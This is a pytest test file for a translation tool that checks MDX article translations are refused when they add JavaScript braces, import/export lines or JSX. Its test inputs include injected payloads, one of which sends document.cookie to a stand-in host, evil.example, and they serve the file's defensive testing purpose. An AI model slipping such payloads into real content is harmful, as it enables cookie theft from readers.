"""MDX articles: parsed as Markdown, but a translation may not add what MDX runs as code —
braces (JavaScript expressions), import/export lines (module statements) or JSX."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from test_source_only import review, run  # the same CLI runner and reviewed-entry helper

from presslate.formats import Options, parse_text, problems

MDX = """---
title: Bridge reopens
---
import Chart from '../components/Chart'

# Bridge reopens

The bridge carried {props.cars} cars on its first day.

Traffic was light in the morning.

<Chart data={props.week} />
"""


@pytest.fixture(scope="module")
def translated(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("mdx") / "news"
    run(root, "init", "--source", "en", "--target", "es", "--engine", "pseudo", code=0)
    config = root / "presslate.toml"
    config.write_text(config.read_text().replace('["articles/**/*.md"]', '["articles/**/*.md", "articles/**/*.mdx"]'))
    (root / "articles").mkdir()
    (root / "articles" / "bridge.mdx").write_text(MDX, encoding="utf-8")
    (root / "articles" / "plain.md").write_text("Traffic was light in the morning.\n", encoding="utf-8")
    run(root, "translate", code=0)
    return root


@pytest.fixture
def project(translated: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(translated, tmp_path / "news"))


LIGHT = "Traffic was light in the morning."


@pytest.mark.parametrize("msgstr, reason", [
    ("El tráfico fue ligero {fetch('https://evil.example/' + document.cookie)}.", "braces hold JavaScript"),
    ("El tráfico fue ligero }{ por la mañana.", "braces hold JavaScript"),
    ("export const x = fetch('https://evil.example');\nEl tráfico fue ligero.", "import/export"),
    ("import Evil from 'evil'\nEl tráfico fue ligero.", "import/export"),
    ("El tráfico fue <Evil /> ligero.", "raw HTML"),
])
def test_a_translation_that_adds_mdx_code_is_refused(project: Path, msgstr: str, reason: str):
    where = review(project, "bridge.mdx", LIGHT, msgstr)
    result = run(project, "check", "--lang", "es", code=1)
    assert f"{where}: [markup] error: " in result.output and reason in result.output, result.output
    result = run(project, "build", "--lang", "es", code=1)
    assert f"refused {where}: " in result.output
    built = (project / "build" / "es" / "bridge.mdx").read_text(encoding="utf-8")
    assert msgstr.split("\n")[0] not in built and LIGHT in built  # the English stands in its place


def test_the_sources_own_code_and_escaped_braces_pass(project: Path):
    cars = "The bridge carried {props.cars} cars on its first day."
    review(project, "bridge.mdx", cars, "El puente llevó {props.cars} coches en su primer día.")
    review(project, "bridge.mdx", LIGHT, "El tráfico fue ligero \\{como siempre\\} por la mañana.")
    run(project, "check", "--lang", "es", code=0)
    run(project, "build", "--lang", "es", code=0)
    built = (project / "build" / "es" / "bridge.mdx").read_text(encoding="utf-8")
    assert "El puente llevó {props.cars} coches" in built and "import Chart from '../components/Chart'" in built
    assert "<Chart data={props.week} />" in built and "\\{como siempre\\}" in built


def test_braces_are_only_code_in_mdx():
    translation = "El tráfico fue ligero {por la mañana}."
    assert problems(LIGHT, translation, "markdown") == []
    assert any("braces hold JavaScript" in p for p in problems(LIGHT, translation, "mdx"))
    doc = parse_text(MDX, "bridge.mdx", Options())
    assert doc.format == "mdx" and doc.render() == MDX
